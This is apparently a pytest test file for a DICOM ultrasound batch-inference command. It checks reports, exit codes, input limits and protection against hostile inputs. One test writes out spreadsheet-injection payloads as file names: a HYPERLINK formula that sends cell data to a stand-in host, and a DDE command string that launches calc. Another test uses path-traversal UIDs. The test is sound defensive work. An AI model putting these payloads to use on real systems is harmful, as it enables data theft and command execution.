"""`tinyusfm-monai dicom infer`: a folder of studies in, results per study and a report out."""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import logging
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pydicom
import pytest
from dicom_fixtures import (
    HOSTILE_UIDS,
    PATIENT_ID_MARKER,
    PATIENT_MARKER,
    UNSUPPORTED_US_FILE,
    IntensityClassifier,
    ThresholdSegmenter,
    copy_with,
    dciodvfy_errors,
    make_huge_cine,
    make_huge_jpeg,
    make_huge_rle,
    make_lying_jpeg,
    make_monochrome,
    make_no_pixel_data,
    make_short_pixel_data,
    make_truncated,
    make_with_uid,
    us_file,
)
from pydicom.pixels import get_decoder

from tinyusfm_monai.dicom.batch import (
    EXIT_ALL_PROCESSED,
    EXIT_SOME_FAILED,
    EXIT_SOME_SKIPPED,
    OutputNotWritableError,
    infer,
    run_batch,
)
from tinyusfm_monai.io.dicom import InputLimits


def _tree(root):
    """Two studies of real US files plus the inputs a hospital export really contains."""
    a, b = root / "study_a", root / "study_b" / "series1"
    a.mkdir(parents=True)
    b.mkdir(parents=True)
    copy_with(us_file("US1_UNCR.dcm"), a / "IMG0001", PatientName=PATIENT_MARKER, PatientID=PATIENT_ID_MARKER)
    shutil.copy(us_file("examples_palette.dcm"), a / "IMG0002.dcm")
    shutil.copy(us_file("examples_ybr_color.dcm"), b / "cine.dcm")
    make_monochrome(b / "mono1.dcm", "MONOCHROME1")
    shutil.copy(us_file("CT_small.dcm"), b / "ct.dcm")
    shutil.copy(us_file(UNSUPPORTED_US_FILE), b / "lossless.dcm")
    make_truncated(b / "truncated.dcm")
    make_short_pixel_data(a / "short_pixels.dcm")
    make_no_pixel_data(a / "nopixels.dcm")
    (root / "README.txt").write_text("export notes\n")
    return root


def _hashes(root):
    return {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(root.rglob("*")) if p.is_file()}


def _outputs(out):
    return sorted(p.relative_to(out) for p in out.rglob("*.dcm"))


def test_batch_segmentation_end_to_end(tmp_path, caplog):
    inputs = _tree(tmp_path / "in")
    out = tmp_path / "out"
    before = _hashes(inputs)
    caplog.set_level(logging.DEBUG)
    predictor = ThresholdSegmenter("busi_segmentation")
    message = infer("bundles/busi_segmentation", str(inputs), str(out), frames="every:10", predictor=predictor)
    assert "4/10" in message
    rows = {r["input"]: r for r in csv.DictReader(open(out / "report.csv"))}
    assert len(rows) == 10
    status = {k: (r["status"], r["reason"]) for k, r in rows.items()}
    assert status["study_a/IMG0001"] == ("processed", "")
    assert status["study_a/IMG0002.dcm"] == ("processed", "")
    assert status["study_b/series1/cine.dcm"] == ("processed", "")
    assert status["study_b/series1/mono1.dcm"] == ("processed", "")
    assert status["study_b/series1/ct.dcm"] == ("skipped", "not-ultrasound")
    assert status["study_b/series1/truncated.dcm"] == ("skipped", "corrupt")
    assert status["study_a/short_pixels.dcm"] == ("skipped", "corrupt")
    assert status["study_a/nopixels.dcm"] == ("skipped", "no-pixel-data")
    assert status["README.txt"] == ("skipped", "not-dicom")
    lossless = pydicom.dcmread(us_file(UNSUPPORTED_US_FILE), stop_before_pixels=True).file_meta.TransferSyntaxUID
    if not get_decoder(lossless).is_available:
        assert status["study_b/series1/lossless.dcm"] == ("skipped", "unsupported-syntax")
    assert rows["study_b/series1/cine.dcm"]["frames"] == "1,11,21"
    report = json.loads((out / "report.json").read_text())
    assert report["bundle"] == "busi_segmentation" and report["counts"]["processed"] == 4

    # outputs per study: SEG for single-frame sources, the SR fallback for the cine
    for row in rows.values():
        for rel in filter(None, row["outputs"].split(";")):
            path = out / rel
            assert path.parent.name == row["study_instance_uid"]
            kind = path.name.split("_")[0]
            assert kind == ("SR" if row["input"].endswith("cine.dcm") else "SEG")
            assert dciodvfy_errors(path) == [], rel
    assert _hashes(inputs) == before, "inputs must never be modified"

    # patient identifiers never in logs (the marker patient was processed)
    assert PATIENT_MARKER.split("^")[0] not in caplog.text and PATIENT_ID_MARKER not in caplog.text
    assert "Zzyzxpatient" not in (out / "report.json").read_text()

    # rerun: same files, no duplicates
    first = _outputs(out)
    run_batch(predictor, inputs, out, frames="every:10")
    assert _outputs(out) == first


def test_batch_classification_with_overlays(tmp_path):
    inputs = tmp_path / "in"
    inputs.mkdir()
    shutil.copy(us_file("US1_J2KI.dcm"), inputs / "a.dcm")
    shutil.copy(us_file("OBXXXX1A_rle_2frame.dcm"), inputs / "b.dcm")
    out = inputs / "results"  # an output folder inside the input is not fed back in
    rows = run_batch(IntensityClassifier("busi_classification"), inputs, out, frames="all", secondary_capture=True)
    assert [r.status for r in rows] == ["processed", "processed"]
    kinds = sorted(p.name.split("_")[0] for p in out.rglob("*.dcm"))
    assert kinds == ["SC", "SC", "SC", "SR", "SR"]  # one SC per processed frame (1 + 2), one SR per instance
    for p in out.rglob("*.dcm"):
        assert dciodvfy_errors(p) == [], p.name
    rows2 = run_batch(IntensityClassifier("busi_classification"), inputs, out, frames="all", secondary_capture=True)
    assert len(rows2) == 2


def test_missing_input_folder(tmp_path):
    with pytest.raises(FileNotFoundError):
        run_batch(IntensityClassifier(), tmp_path / "nope", tmp_path / "out")


def test_hostile_uids_through_batch_write_nothing_outside_the_output(tmp_path):
    """'../../../../tmp/x', absolute, over-long and non-digit UIDs: skipped with a reason naming the attribute,
    no file written outside the output folder, and the batch goes on."""
    inputs, out = tmp_path / "in", tmp_path / "deep" / "out"
    for keyword in ("SOPInstanceUID", "StudyInstanceUID", "SeriesInstanceUID"):
        for kind, value in HOSTILE_UIDS.items():
            make_with_uid(inputs / f"{keyword}-{kind}.dcm", keyword, value)
    shutil.copy(us_file("US1_UNCR.dcm"), inputs / "zz_good.dcm")
    before = set(Path("/tmp").iterdir())
    rows = {r.input: r for r in run_batch(ThresholdSegmenter(), inputs, out)}
    assert rows["zz_good.dcm"].status == "processed"
    for keyword in ("SOPInstanceUID", "StudyInstanceUID", "SeriesInstanceUID"):
        for kind in HOSTILE_UIDS:
            row = rows[f"{keyword}-{kind}.dcm"]
            assert (row.status, row.reason) == ("skipped", "invalid-uid"), (keyword, kind, row)
            assert keyword in row.detail and "../" not in row.detail
    written = [p for p in tmp_path.rglob("*") if p.is_file() and not p.is_relative_to(inputs)]
    assert all(p.is_relative_to(out) for p in written), written
    assert not [p for p in set(Path("/tmp").iterdir()) - before if "tinyusfm-escape" in p.name]


@pytest.mark.timeout(120)
def test_fifo_socket_device_and_symlink_loops_are_reported_never_opened(tmp_path):
    import socket

    inputs = tmp_path / "in"
    inputs.mkdir()
    os.mkfifo(inputs / "pipe.dcm")  # opening it would block the batch for ever
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(inputs / "sock"))
    (inputs / "loop").symlink_to(inputs / "loop")
    (inputs / "dangling").symlink_to(inputs / "nowhere")
    (inputs / "null").symlink_to("/dev/null")
    (inputs / "to_folder").symlink_to(tmp_path)
    (inputs / "link.dcm").symlink_to(us_file("US1_UNCR.dcm"))  # a link to a regular file is read
    (inputs / ".DS_Store").write_bytes(b"finder")
    shutil.copy(us_file("US1_UNCR.dcm"), inputs / "DICOMDIR")  # any content: DICOMDIR is an index, ignored
    try:
        rows = {r.input: r for r in run_batch(ThresholdSegmenter(), inputs, tmp_path / "out")}
    finally:
        server.close()
    status = {k: (r.status, r.reason) for k, r in rows.items()}
    assert status == {
        ".DS_Store": ("ignored", "not-an-input"),
        "DICOMDIR": ("ignored", "not-an-input"),
        "dangling": ("skipped", "not-a-regular-file"),
        "link.dcm": ("processed", ""),
        "loop": ("skipped", "not-a-regular-file"),
        "null": ("skipped", "not-a-regular-file"),
        "pipe.dcm": ("skipped", "not-a-regular-file"),
        "sock": ("skipped", "not-a-regular-file"),
        "to_folder": ("skipped", "not-a-regular-file"),
    }
    assert rows["pipe.dcm"].detail == "FIFO (named pipe), not a regular file"
    assert rows["loop"].detail == "symbolic link loop"
    assert rows["null"].detail == "symbolic link to a character device (not followed)"
    assert rows["to_folder"].detail == "symbolic link to a folder (not followed)"


def test_unwritable_output_is_refused_before_any_work(tmp_path):
    class Counting(ThresholdSegmenter):
        calls = 0

        def predict(self, image):
            Counting.calls += 1
            return super().predict(image)

    inputs = _tree(tmp_path / "in")
    blocker = tmp_path / "a_file"
    blocker.write_text("not a folder")
    with pytest.raises(OutputNotWritableError, match="cannot be written"):
        run_batch(Counting(), inputs, blocker / "out")
    with pytest.raises(SystemExit) as exit_info:
        infer("unused", str(inputs), str(blocker / "out"), predictor=Counting())
    assert exit_info.value.code == 2 and Counting.calls == 0
    if os.geteuid() != 0:  # root writes anywhere: the permission case only holds for a normal user
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
        with pytest.raises(OutputNotWritableError):
            run_batch(Counting(), inputs, locked)
    # the real command: exit status 2, a one-line message, no traceback
    cli = [sys.executable, "-m", "tinyusfm_monai.cli", "dicom", "infer", "--bundle", "bundles/busi_segmentation"]
    proc = subprocess.run(
        cli + ["--input", str(inputs), "--output", str(blocker / "out")], capture_output=True, text=True
    )
    assert proc.returncode == 2 and "cannot be written" in proc.stderr and "Traceback" not in proc.stderr


def test_exit_codes_are_distinct(tmp_path):
    """0 all processed, 3 some skipped, 4 some failed: what the command exits with (fire would exit 0)."""
    from tinyusfm_monai.cli import _Dicom

    class Failing(ThresholdSegmenter):
        def predict(self, image):
            raise RuntimeError("model exploded")

    good, mixed = tmp_path / "good", tmp_path / "mixed"
    good.mkdir()
    shutil.copy(us_file("US1_UNCR.dcm"), good / "a.dcm")
    (good / ".hidden").write_text("ignored, does not count")
    mixed.mkdir()
    shutil.copy(us_file("US1_UNCR.dcm"), mixed / "a.dcm")
    (mixed / "notes.txt").write_text("not dicom")
    summary = infer("unused", str(good), str(tmp_path / "o1"), predictor=ThresholdSegmenter())
    assert summary.exit_code == EXIT_ALL_PROCESSED == 0 and summary.startswith("1/1 input(s) processed (1 ignored)")
    with pytest.raises(SystemExit) as code:
        _Dicom.infer("unused", str(mixed), str(tmp_path / "o2"), predictor=ThresholdSegmenter())
    assert code.value.code == EXIT_SOME_SKIPPED == 3
    with pytest.raises(SystemExit) as code:
        _Dicom.infer("unused", str(mixed), str(tmp_path / "o3"), predictor=Failing())
    assert code.value.code == EXIT_SOME_FAILED == 4
    assert json.loads((tmp_path / "o3" / "report.json").read_text())["exit_code"] == 4


def test_limits_are_checked_before_decoding_and_cines_stream(tmp_path):
    """A 20000^2 RLE and a 13000^2 JPEG are refused from their headers, a JPEG whose codestream claims more
    pixels than its header is refused before the decoder sees it; a 2000^2 cine is processed frame by frame."""
    inputs = tmp_path / "in"
    make_huge_rle(inputs / "rle.dcm")
    make_huge_jpeg(inputs / "jpeg.dcm")
    make_lying_jpeg(inputs / "lying.dcm")
    make_huge_cine(inputs / "cine.dcm", frames=4)
    rows = {r.input: r for r in run_batch(ThresholdSegmenter(), inputs, tmp_path / "out")}
    assert (rows["rle.dcm"].status, rows["rle.dcm"].reason) == ("skipped", "too-large")
    assert "20000 x 20000 = 400,000,000 pixels per frame" in rows["rle.dcm"].detail
    assert (rows["jpeg.dcm"].status, rows["jpeg.dcm"].reason) == ("skipped", "too-large")
    assert (rows["lying.dcm"].status, rows["lying.dcm"].reason) == ("skipped", "corrupt")
    assert "13000 x 13000" in rows["lying.dcm"].detail
    assert rows["cine.dcm"].status == "processed" and rows["cine.dcm"].frames == "1,2,3,4"
    # limits are options: a lower frame limit refuses the cine, named
    rows = run_batch(ThresholdSegmenter(), inputs / "cine.dcm", tmp_path / "out2", limits=InputLimits(max_frames=3))
    assert (rows[0].status, rows[0].reason) == ("skipped", "too-large") and "4 frames" in rows[0].detail


def test_vendor_quirks_two_frame_single_frame_class_missing_uid_and_empty_region(tmp_path):
    """OBXXXX1A_2frame.dcm (single-frame SOP class, NumberOfFrames 2) gave a highdicom TypeError; a file without
    SOP Instance UID an AttributeError; a (0,0,0,0) ultrasound region a 1 x 1 crop."""
    inputs = tmp_path / "in"
    inputs.mkdir()
    shutil.copy(us_file("OBXXXX1A_2frame.dcm"), inputs / "two_frame.dcm")
    shutil.copy(us_file("color-pl.dcm"), inputs / "no_patient_id.dcm")  # lacks Type 2 Patient ID
    ds = pydicom.dcmread(us_file("US1_J2KI.dcm"))
    del ds.SOPInstanceUID
    ds.save_as(inputs / "no_uid.dcm", enforce_file_format=False)
    regions = pydicom.dcmread(us_file("examples_ybr_color.dcm"))
    region = regions.SequenceOfUltrasoundRegions[0]
    empty = copy.deepcopy(region)
    for attr in ("RegionLocationMinX0", "RegionLocationMinY0", "RegionLocationMaxX1", "RegionLocationMaxY1"):
        setattr(empty, attr, 0)
    regions.SequenceOfUltrasoundRegions = [empty]
    regions.save_as(inputs / "zero_region.dcm", enforce_file_format=True)
    regions.SequenceOfUltrasoundRegions = [empty, region]
    regions.save_as(inputs / "zero_then_real.dcm", enforce_file_format=True)
    rows = {r.input: r for r in run_batch(ThresholdSegmenter(), inputs, tmp_path / "out", frames="first")}
    two = rows["two_frame.dcm"]
    assert two.status == "processed" and two.frames == "1" and two.outputs[0].split("/")[-1].startswith("SEG_")
    assert "single-frame SOP class declares 2 frames: only frame 1 processed" in two.detail
    assert dciodvfy_errors(tmp_path / "out" / two.outputs[0]) == []
    assert rows["no_patient_id.dcm"].status == "processed"
    assert (rows["no_uid.dcm"].status, rows["no_uid.dcm"].reason) == ("skipped", "missing-uid")
    assert rows["no_uid.dcm"].detail == "missing SOPInstanceUID"
    assert rows["zero_region.dcm"].crop == "full frame (region(s) 1 unusable: under 16 px)"
    assert rows["zero_then_real.dcm"].crop.startswith("2D tissue region 2 of 2 [84, 31, 320, 240]")
    # the bundle reader needs no DICOM identity: the same file is read for inference
    from tinyusfm_monai.transforms.io import LoadUltrasoundImaged

    image = LoadUltrasoundImaged("image")({"image": str(inputs / "no_uid.dcm")})["image"]
    assert tuple(image.shape) == (480, 640, 3) and image.meta["dicom_sop_instance_uid"] == ""


def test_report_csv_cells_cannot_be_spreadsheet_formulas(tmp_path):
    """A file named like a formula goes into report.csv as text (apostrophe first); numbers stay numbers."""
    from tinyusfm_monai.utils.csvsafe import safe_cell

    folder = tmp_path / "in"
    folder.mkdir()
    hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
    for name in hostile:
        (folder / name.replace("/", "_")).write_text("not dicom")
    infer("unused", str(folder), str(tmp_path / "out"), predictor=ThresholdSegmenter())
    text = (tmp_path / "out" / "report.csv").read_text()
    rows = list(csv.DictReader(open(tmp_path / "out" / "report.csv")))
    assert len(rows) == len(hostile) and all(r["input"].startswith("'") for r in rows), text
    assert {r["input"][1:] for r in rows} == {n.replace("/", "_") for n in hostile}
    assert [safe_cell(v) for v in ("-0.25", "1e-3", -1, "\t=1", "plain", "")] == [
        "-0.25",
        "1e-3",
        -1,
        "'\t=1",
        "plain",
        "",
    ]
